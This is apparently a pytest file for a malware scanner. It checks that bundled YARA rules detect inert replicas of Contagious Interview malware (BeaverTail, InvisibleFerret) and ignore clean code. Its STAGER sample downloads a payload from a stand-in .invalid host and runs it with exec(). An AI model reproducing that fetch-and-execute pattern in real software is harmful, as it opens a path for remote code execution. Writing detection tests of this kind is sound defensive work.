"""The bundled YARA rules: each fires on an inert replica of the shape it describes and stays silent
on ordinary code; every rule names a HeistGuard rule id that is in the catalogue."""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest

from heistguard.artifacts.detectors.base import Target
from heistguard.artifacts.filetype import identify
from heistguard.artifacts.scanner import Scanner
from heistguard.artifacts.walk import Member
from heistguard.artifacts.yara import RULES, bundled_sources

SAMPLES = Path(__file__).parents[2] / "samples" / "artifacts" / "contagious-interview"

# Inert replicas written for these tests: the command table and stager layout public reports
# describe, with no working code behind them and servers under .invalid.
FERRET = b"""import socket, os, platform
class Shell(object):
    def ssh_cmd(self, args): return None
    def ssh_obj(self, args): return None
    def ssh_clip(self, args): return None
    def ssh_run(self, args): return None
    def ssh_upload(self, args): return None
    def ssh_kill(self, args): return None
    def ssh_any(self, args): return None
    def ssh_env(self, args): return None
HOST = 'ferret.example.invalid'
"""
STAGER = b"""import os, urllib.request
def fetch(sType):
    home = os.path.expanduser('~')
    path = os.path.join(home, '.n2', 'pay')
    data = urllib.request.urlopen('http://stage.example.invalid:1244/payload/' + sType).read()
    exec(compile(data, path, 'exec'))
"""
CLEAN = b"import os\n\ndef ssh_cmd(host):\n    return ['ssh', host]\n\nprint(os.getcwd())\n"

CASES = {
    "HG_BeaverTail_JS_Loader": ("server/config/config.js", (SAMPLES / "server/config/config.js").read_bytes()),
    "HG_Obfuscated_JS_Wallet_Stealer": ("public/js/analytics.js", (SAMPLES / "public/js/analytics.js").read_bytes()),
    "HG_InvisibleFerret_Python_Backdoor": (".n2/bow", FERRET),
    "HG_Contagious_Interview_Python_Stager": ("main.py", STAGER),
}


def _matched(scanner: Scanner, name: str, data: bytes) -> set[str]:
    target = Target(Member(name, name, data, identify(data), len(data)))
    found = [m for m in scanner.yara.scanner.scan(data).matching_rules if m.namespace == "heistguard"]
    assert bool(list(scanner.yara.findings(target))) == bool(found)
    return {m.identifier for m in found}


def test_every_bundled_rule_has_a_case() -> None:
    names = {n for source in bundled_sources().values() for n in re.findall(r"^rule\s+(\w+)", source, re.M)}
    assert names == set(CASES)


@pytest.mark.parametrize("rule_name", sorted(CASES))
def test_bundled_rule_fires_on_its_replica(rule_name: str, scanner: Scanner) -> None:
    name, data = CASES[rule_name]
    assert rule_name in _matched(scanner, name, data)


def test_bundled_rules_silent_on_ordinary_code(scanner: Scanner) -> None:
    assert _matched(scanner, "ok.py", CLEAN) == set()
    assert _matched(scanner, "index.js", (SAMPLES / "server/index.js").read_bytes()) == set()


def test_every_hg_rule_meta_names_a_catalogued_rule() -> None:
    ids = {r.id for r in RULES}
    metas = {m for source in bundled_sources().values() for m in re.findall(r'hg_rule\s*=\s*"([^"]+)"', source)}
    assert metas and metas <= ids


def test_yara_findings_carry_the_rule_severity_and_line(tmp_path: Path, scanner: Scanner) -> None:
    repo = Path(shutil.copytree(SAMPLES, tmp_path / "repo"))
    verdict = scanner.scan_path(repo)
    beaver = [f for f in verdict.findings if f.rule_id == "artifacts.yara-beavertail"]
    assert {f.severity.value for f in beaver} == {"critical", "high"}
    assert all(f.evidence[0].location.line for f in beaver)
